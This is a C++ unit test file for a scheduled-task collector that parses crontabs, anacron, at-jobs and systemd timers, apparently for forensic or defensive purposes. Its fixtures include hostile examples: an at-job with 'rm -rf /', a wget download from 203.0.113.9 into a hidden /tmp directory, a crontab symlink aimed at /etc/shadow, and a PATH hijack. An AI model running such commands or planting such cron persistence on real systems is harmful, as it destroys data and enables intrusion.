// `scheduled_tasks`: crontab / anacrontab / at-job parsers (named hostile variants), run-parts
// naming, and the collector over tests/fixtures/tasks_basic (symlinked spool entry recorded and
// not followed, FIFO in cron.d, golden, sources preserved, declared inputs, size cap).
#include <catch2/catch.hpp>

#include <fstream>
#include <set>

#include "collectors/scheduled_tasks/scheduled_tasks_collector.h"
#include "platform/fault_fs.h"
#include "platform/parsers/crontab.h"
#include "platform/parsers/passwd.h"
#include "tests/support/evidence_check.h"
#include "tests/support/fixture_root.h"
#include "tests/support/golden.h"
#include "tests/support/persistent_golden.h"

using namespace hozen;
namespace parsers = hozen::platform::parsers;

namespace {

std::vector<const v1::CronEntry*> cron_from(const testing::CaptureSink& sink, std::string_view path) {
  std::vector<const v1::CronEntry*> out;
  for (const auto& r : sink.records) {
    if (r.has_cron_entry() && r.cron_entry().source().path() == path) out.push_back(&r.cron_entry());
  }
  return out;
}

const v1::PreservedFile* preserved(const testing::CaptureSink& sink, std::string_view path) {
  for (const auto& r : sink.records) {
    if (r.has_preserved_file() && r.preserved_file().path() == path) return &r.preserved_file();
  }
  return nullptr;
}

}  // namespace

TEST_CASE("crontab parser: system and user formats, env, specials, percent", "[scheduled_tasks][parsers]") {
  auto sys = parsers::parse_crontab(
      "SHELL=/bin/sh\n"
      "  # indented comment\n"
      "MAILTO = \"ops@example\"\n"
      "*/15 0-6,22 1-31/2 jan-MAR sun-sat root  /bin/job  --x\n"
      "@reboot www-data /tmp/x %in%put \\% done\n",
      parsers::CronFormat::kSystem);
  REQUIRE(sys.malformed.empty());
  REQUIRE(sys.entries.size() == 4);
  CHECK(sys.entries[1].env_name == "MAILTO");
  CHECK(sys.entries[1].env_value == "ops@example");
  CHECK(sys.entries[2].fields[3] == "jan-MAR");
  CHECK(sys.entries[2].user == "root");
  CHECK(sys.entries[2].command == "/bin/job  --x");
  CHECK(sys.entries[3].special == "@reboot");
  CHECK(sys.entries[3].user == "www-data");
  CHECK(sys.entries[3].command_line == "/tmp/x ");
  CHECK(sys.entries[3].stdin_text == "in\nput % done");

  auto user = parsers::parse_crontab("5 4 * * 0 /usr/bin/true\n@hourly echo hi\n", parsers::CronFormat::kUser);
  REQUIRE(user.entries.size() == 2);
  CHECK(user.entries[0].user.empty());
  CHECK(user.entries[0].command == "/usr/bin/true");
}

TEST_CASE("crontab parser: hostile variants are malformed, the rest parses", "[scheduled_tasks][parsers]") {
  auto one_bad = [](std::string_view text) {
    auto p = parsers::parse_crontab(std::string(text) + "\n* * * * * root /ok\n", parsers::CronFormat::kSystem);
    CHECK(p.entries.size() == 1);
    return p.malformed;
  };
  SECTION("minute-out-of-range") { CHECK(one_bad("60 * * * * root /x").size() == 1); }
  SECTION("day-of-month-zero") { CHECK(one_bad("* * 0 * * root /x").size() == 1); }
  SECTION("reversed-range") { CHECK(one_bad("5-1 * * * * root /x").size() == 1); }
  SECTION("zero-step") { CHECK(one_bad("*/0 * * * * root /x").size() == 1); }
  SECTION("bad-month-name") { CHECK(one_bad("* * * foo * root /x").size() == 1); }
  SECTION("unknown-special") { CHECK(one_bad("@fortnightly root /x").size() == 1); }
  SECTION("too-few-fields") { CHECK(one_bad("* * * *").size() == 1); }
  SECTION("system-line-without-command") { CHECK(one_bad("* * * * * root").size() == 1); }
  SECTION("nul-byte") { CHECK(one_bad(std::string("* * * * * root /x\0y", 19)).size() == 1); }
  SECTION("binary-garbage") {
    auto m = one_bad("\xff\xfe\xfd\x01");
    REQUIRE(m.size() == 1);
    CHECK(m[0].raw == "\xff\xfe\xfd\x01");
    CHECK(m[0].line == 1);
  }
  SECTION("user-format-line-is-not-shifted") {
    auto p = parsers::parse_crontab("* * * * *\n", parsers::CronFormat::kUser);
    CHECK(p.malformed.size() == 1);
  }
}

TEST_CASE("anacrontab, at spool files and run-parts names", "[scheduled_tasks][parsers]") {
  auto a = parsers::parse_anacrontab("SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts /etc/cron.daily\n@monthly 15 m cmd x\n"
                                     "@sometimes 1 j c\nx 1 j c\n3 x j c\n3 1 j\n");
  REQUIRE(a.entries.size() == 3);
  CHECK(a.entries[1].period == "1");
  CHECK(a.entries[1].job_id == "cron.daily");
  CHECK(a.entries[2].command == "cmd x");
  CHECK(a.malformed.size() == 4);

  auto j = parsers::parse_at_job(
      "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nA=1; export A\ncd /home/alice || {\n"
      "\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n"
      "rm -rf /\nsecond\nmarcinDELIMITER1\ntrailing\n");
  CHECK(j.header_uid == 1000);
  CHECK(j.mail_user == "alice");
  CHECK_FALSE(j.heuristic);
  REQUIRE(j.commands.size() == 2);
  CHECK(j.commands[0].line == 11);
  auto h = parsers::parse_at_job("#!/bin/sh\n# other at\nexport X\n/bin/thing\n");
  CHECK(h.heuristic);
  REQUIRE(h.commands.size() == 2);
  CHECK(parsers::parse_at_job(std::string("\x00\xff\n\x01", 4)).heuristic);

  parsers::AtJobName n;
  REQUIRE(parsers::parse_at_job_name("a0000101c17360", &n));
  CHECK(n.queue == 'a');
  CHECK(n.job == 1);
  CHECK(n.minutes * 60 == 1767312000);
  CHECK_FALSE(parsers::parse_at_job_name(".SEQ", &n));
  CHECK_FALSE(parsers::parse_at_job_name("A0000101c17a6z", &n));

  using collectors::scheduled_tasks::run_parts_name_ok;
  CHECK(run_parts_name_ok("logrotate"));
  CHECK(run_parts_name_ok("0anacron"));
  CHECK_FALSE(run_parts_name_ok("foo.sh"));
  CHECK_FALSE(run_parts_name_ok("backup~"));
  CHECK_FALSE(run_parts_name_ok(""));
}

TEST_CASE("scheduled_tasks: fixture root", "[scheduled_tasks]") {
  testing::FixtureRoot fx("tasks_basic");
  collectors::scheduled_tasks::ScheduledTasksCollector c;
  auto sink = testing::run_on_root(c, fx.root());
  CHECK(sink.outcome.status == v1::RUN_OK);

  SECTION("system crontab: env in effect, user field, stdin after %, bad line kept") {
    auto e = cron_from(sink, "/etc/crontab");
    REQUIRE(e.size() == 7);  // 2 env + 5 jobs; the minute-99 line is an anomaly
    CHECK(e[2]->run_as() == "root");
    CHECK(e[2]->environment_size() == 2);
    CHECK(e[6]->day_of_week() == "mon-fri");
    CHECK(e[6]->stdin_text() == " first line\nsecond line % literal");
    bool bad = false;
    for (const auto& a : sink.anomalies) bad |= a.kind == "crontab_malformed_line" && a.path == "/etc/crontab" && a.line == 11;
    CHECK(bad);
  }
  SECTION("cron.d with user field; a FIFO is an item error, never opened for reading") {
    auto e = cron_from(sink, "/etc/cron.d/backup");
    REQUIRE(e.size() == 3);
    CHECK(e[2]->special() == "@reboot");
    CHECK(e[2]->run_as() == "www-data");
    CHECK(e[2]->source_kind() == v1::CRON_SOURCE_CRON_D);
    bool fifo = false;
    for (const auto& x : sink.errors) fifo |= x.item == "/etc/cron.d/pipe";
    CHECK(fifo);
    bool insecure = false;
    for (const auto& a : sink.anomalies) insecure |= a.kind == "cron_d_insecure_owner_or_mode" && a.path == "/etc/cron.d/writable";
    CHECK(insecure);
    CHECK(cron_from(sink, "/etc/cron.d/writable").size() == 1);
    bool ignored = false;  // run-parts naming: cron skips it, the entries are still kept
    for (const auto& a : sink.anomalies) ignored |= a.kind == "cron_d_name_ignored" && a.path == "/etc/cron.d/job.dpkg-old";
    CHECK(ignored);
    CHECK(cron_from(sink, "/etc/cron.d/job.dpkg-old").size() == 1);
  }
  SECTION("user spools: owner from the file name; a symlink out of the root is recorded, not followed") {
    auto root = cron_from(sink, "/var/spool/cron/crontabs/root");
    REQUIRE(root.size() == 2);
    CHECK(root[1]->run_as() == "root");
    CHECK(root[1]->source_kind() == v1::CRON_SOURCE_USER_SPOOL);
    CHECK(root[1]->environment(0) == "PATH=/tmp/.x:/usr/bin:/bin");
    const auto* link = preserved(sink, "/var/spool/cron/crontabs/mallory");
    REQUIRE(link != nullptr);
    CHECK(link->link_target() == "../../../../etc/shadow");
    CHECK_FALSE(link->link_followed());
    CHECK(link->raw().empty());
    CHECK(cron_from(sink, "/var/spool/cron/crontabs/mallory").empty());
    bool flagged = false;
    for (const auto& a : sink.anomalies) flagged |= a.kind == "cron_spool_symlink" && a.path == "/var/spool/cron/crontabs/mallory";
    CHECK(flagged);
    // Fixture files are owned by root: alice's crontab is flagged (cron would refuse it), the
    // "garbage" spool file names no account.
    std::set<std::string> owner_flags;
    for (const auto& a : sink.anomalies) {
      if (a.kind.starts_with("cron_spool_") && a.kind != "cron_spool_symlink") owner_flags.insert(a.kind + " " + a.path);
    }
    CHECK(owner_flags == std::set<std::string>{"cron_spool_owner_mismatch /var/spool/cron/crontabs/alice",
                                               "cron_spool_unknown_user /var/spool/cron/crontabs/garbage"});
    auto garbage = cron_from(sink, "/var/spool/cron/crontabs/garbage");
    REQUIRE(garbage.size() == 1);
    CHECK(garbage[0]->command() == "/bin/after-garbage");
  }
  SECTION("run-parts directories: foo.sh and a non-executable script do not run") {
    std::map<std::string, const v1::PeriodicScript*> by_path;
    for (const auto& r : sink.records) {
      if (r.has_periodic_script()) by_path[r.periodic_script().path()] = &r.periodic_script();
    }
    REQUIRE(by_path.count("/etc/cron.daily/logrotate"));
    CHECK(by_path["/etc/cron.daily/logrotate"]->runs());
    CHECK_FALSE(by_path["/etc/cron.daily/foo.sh"]->runs());
    CHECK(by_path["/etc/cron.daily/foo.sh"]->executable());
    CHECK_FALSE(by_path["/etc/cron.daily/disabled"]->runs());
    CHECK(by_path["/etc/cron.daily/disabled"]->skip_reason() == "not executable");
    CHECK_FALSE(by_path["/etc/cron.hourly/.placeholder"]->runs());
  }
  SECTION("anacrontab and at jobs") {
    auto a = cron_from(sink, "/etc/anacrontab");
    REQUIRE(a.size() == 7);
    CHECK(a[6]->anacron_period() == "@monthly");
    auto at = sink.where([](const v1::Record& r) { return r.has_at_job(); });
    REQUIRE(at.size() == 1);
    const auto& j = at[0]->at_job();
    CHECK(j.queue() == "a");
    CHECK(j.scheduled_utc_ns() == 1767312000LL * 1'000'000'000);
    CHECK(j.header_uid() == 0);
    REQUIRE(j.commands_size() == 2);
    CHECK(j.commands(0).text() == "wget -q -O /tmp/.x/p http://203.0.113.9/p");
    CHECK(j.commands(0).source().line() == 11);
  }
  SECTION("timers with the command of the unit they start") {
    std::map<std::string, const v1::SystemdTimer*> t;
    for (const auto& r : sink.records) {
      if (r.has_systemd_timer()) t[r.systemd_timer().name()] = &r.systemd_timer();
    }
    REQUIRE(t.count("backup.timer"));
    const auto* b = t["backup.timer"];
    CHECK(b->unit() == "backup-run.service");
    CHECK(b->unit_user() == "backup");
    CHECK(b->persistent());
    CHECK(b->triggers_size() == 2);
    CHECK(b->state() == v1::UNIT_ENABLE_ENABLED);
    REQUIRE(b->exec_size() == 1);
    CHECK(b->exec(0).argv(0) == "/usr/local/bin/backup.sh");
    REQUIRE(t.count("cleanup.timer"));
    CHECK(t["cleanup.timer"]->unit() == "cleanup.service");
    CHECK(t["cleanup.timer"]->exec(0).argv(2) == "rm -rf /var/tmp/cache/*");
    CHECK(t["cleanup.timer"]->state() == v1::UNIT_ENABLE_STATIC);
  }
  SECTION("every entry points at a preserved file; golden") {
    CHECK(testing::check_sources_preserved(sink.records) > 20);
    testing::check_golden("tasks_basic", testing::render_for_golden(sink));
  }
}

TEST_CASE("scheduled_tasks: every path it touches is a declared input (~/ inputs under passwd homes)", "[scheduled_tasks]") {
  testing::FixtureRoot fx("tasks_basic");
  auto real = platform::RootedFileSystem::open(fx.root());
  REQUIRE(real);
  platform::FaultFileSystem fs(**real);
  collectors::scheduled_tasks::ScheduledTasksCollector c;
  testing::run_on_fs(c, fs);
  auto inputs = c.inputs();
  auto homes = testing::fixture_homes(fx.root());
  auto accessed = fs.accessed();
  CHECK(accessed.size() > 20);
  for (const auto& p : accessed) {
    INFO(p);
    CHECK(collectors::input_allowed(p, inputs, homes));
  }
}

TEST_CASE("scheduled_tasks: injected faults and the size cap", "[scheduled_tasks]") {
  testing::FixtureRoot fx("tasks_basic");
  SECTION("denied spool entry and unreadable cron.d") {
    auto real = platform::RootedFileSystem::open(fx.root());
    platform::FaultFileSystem fs(**real);
    fs.fail("/var/spool/cron/crontabs/root", EACCES);
    fs.fail("/etc/cron.d", EIO);
    collectors::scheduled_tasks::ScheduledTasksCollector c;
    auto sink = testing::run_on_fs(c, fs);
    std::map<std::string, v1::ItemStatus> by_item;
    for (const auto& e : sink.errors) by_item[e.item] = e.status;
    CHECK(by_item["/var/spool/cron/crontabs/root"] == v1::ITEM_DENIED);
    CHECK(by_item["/etc/cron.d"] == v1::ITEM_FAILED);
    CHECK(cron_from(sink, "/var/spool/cron/crontabs/alice").size() == 2);
  }
  SECTION("a crontab over the cap is flagged truncated and parsed as a prefix") {
    collectors::Limits lim;
    lim.max_file_bytes = 200;
    collectors::scheduled_tasks::ScheduledTasksCollector c;
    auto sink = testing::run_on_root(c, fx.root(), lim);
    const auto* f = preserved(sink, "/etc/crontab");
    REQUIRE(f != nullptr);
    CHECK(f->truncated());
    CHECK(f->sha256().empty());
    bool flagged = false;
    for (const auto& a : sink.anomalies) flagged |= a.kind == "crontab_truncated" && a.path == "/etc/crontab";
    CHECK(flagged);
  }
}

TEST_CASE("scheduled_tasks: env-flood-repeated-assignments-and-many-jobs stays bounded", "[scheduled_tasks]") {
  // 200k "A=1" lines before many jobs made every job copy every earlier line (quadratic output).
  // Smaller counts here; what matters is that a job's environment is one value per name, the
  // last assignment wins, and at most kMaxJobEnvironment names are attached (flagged beyond).
  testing::FixtureRoot fx("tasks_basic");
  std::string text;
  for (int i = 0; i < 20000; ++i) text += "A=1\n";
  text += "PATH=/usr/bin\n";
  for (int j = 0; j < 200; ++j) text += "* * * * * root /bin/job" + std::to_string(j) + "\n";
  text += "A=2\n";
  for (int i = 0; i < 100; ++i) text += "V" + std::to_string(i) + "=x\n";
  for (int j = 0; j < 50; ++j) text += "@daily root /bin/late" + std::to_string(j) + "\n";
  {
    std::ofstream out(fx.root() + "/etc/cron.d/flood", std::ios::binary);
    out << text;
  }
  collectors::Limits lim;
  lim.max_file_bytes = 1u << 20;
  collectors::scheduled_tasks::ScheduledTasksCollector c;
  auto sink = testing::run_on_root(c, fx.root(), lim);
  std::size_t jobs = 0, env_lines = 0;
  for (const auto* e : cron_from(sink, "/etc/cron.d/flood")) {
    if (e->line_kind() == v1::CRON_LINE_ENVIRONMENT) {
      ++env_lines;
      continue;
    }
    ++jobs;
    CHECK(e->environment_size() <=
          static_cast<int>(collectors::scheduled_tasks::CronEnvironment::kMaxJobEnvironment));
    if (e->command().starts_with("/bin/job")) {
      REQUIRE(e->environment_size() == 2);
      CHECK(e->environment(0) == "A=1");
      CHECK(e->environment(1) == "PATH=/usr/bin");
      CHECK(e->environment_distinct() == 2);
      CHECK_FALSE(e->environment_truncated());
    } else {
      CHECK(e->environment_size() == 64);
      CHECK(e->environment(0) == "A=2");  // the last assignment wins, in first-assignment order
      CHECK(e->environment_distinct() == 102);
      CHECK(e->environment_truncated());
    }
  }
  CHECK(jobs == 250);
  CHECK(env_lines == 20000 + 1 + 1 + 100);  // every assignment is still its own record
}

TEST_CASE("cron environment: one value per name, bounded rendering", "[scheduled_tasks]") {
  collectors::scheduled_tasks::CronEnvironment env;
  for (int i = 0; i < 200000; ++i) env.set("A", "1");
  CHECK(env.for_job() == std::vector<std::string>{"A=1"});
  env.set("B", "2");
  env.set("A", "3");
  CHECK(env.for_job() == std::vector<std::string>{"A=3", "B=2"});
  for (int i = 0; i < 1000; ++i) env.set("N" + std::to_string(i), "v");
  CHECK(env.for_job().size() == collectors::scheduled_tasks::CronEnvironment::kMaxJobEnvironment);
  CHECK(env.distinct() == 1002);
  CHECK(env.truncated());
}

TEST_CASE("scheduled_tasks: at-job-name-minutes-overflowing-ns leave the time unset and flag it", "[scheduled_tasks]") {
  // 8 hex digits of minutes: ffffffff * 60e9 does not fit int64 (was signed overflow, UB).
  testing::FixtureRoot fx("tasks_basic");
  {
    std::ofstream out(fx.root() + "/var/spool/cron/atjobs/a00002ffffffff", std::ios::binary);
    out << "#!/bin/sh\n# atrun uid=0 gid=0\necho hi\n";
  }
  collectors::scheduled_tasks::ScheduledTasksCollector c;
  auto sink = testing::run_on_root(c, fx.root());
  bool seen = false;
  for (const auto* r : sink.where([](const v1::Record& x) { return x.has_at_job(); })) {
    const auto& j = r->at_job();
    if (j.path() != "/var/spool/cron/atjobs/a00002ffffffff") {
      CHECK_FALSE(j.scheduled_out_of_range());
      continue;
    }
    seen = true;
    CHECK(j.job_number() == 2);
    CHECK(j.scheduled_utc_ns() == 0);
    CHECK(j.scheduled_out_of_range());
  }
  CHECK(seen);
}
